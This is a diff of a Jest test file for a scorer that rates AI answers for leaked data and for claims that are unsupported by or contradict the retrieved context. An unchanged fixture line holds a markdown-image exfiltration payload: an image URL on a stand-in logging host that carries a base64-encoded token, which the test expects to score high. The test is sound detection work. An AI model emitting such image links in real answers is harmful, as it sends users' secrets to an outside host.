@@ -66,4 +66,19 @@ describe('what an answer gives away', () => {
     const picture = scoreOutput({ answer: '![x](https://log.example/p.png?d=dG9rZW46IDEyMzQ1Njc4OTA)', context: [] });
     expect(picture.tier).toBe('high');
   });
+
+  test('is at most medium for claims that are only not found in the context, and more where the context says otherwise', () => {
+    const context = [
+      { field: 'context[0]', text: 'The parcel was sent on 3 May 2026. Shipping took 4 days.', provenance: 'retrieved' as const },
+    ];
+    const free = scoreOutput({
+      answer: 'I am sorry about the espresso grinder. Our team in Lisbon will call you tonight about a voucher.',
+      context,
+    });
+    expect(free.claims!.some((claim) => claim.label === 'contradicted')).toBe(false);
+    expect(['low', 'medium']).toContain(free.tier);
+    const wrong = scoreOutput({ answer: 'The parcel was sent on 9 May 2026. Shipping took 14 days.', context });
+    expect(wrong.claims!.some((claim) => claim.label === 'contradicted')).toBe(true);
+    expect(['high', 'critical']).toContain(wrong.tier);
+  });
 });
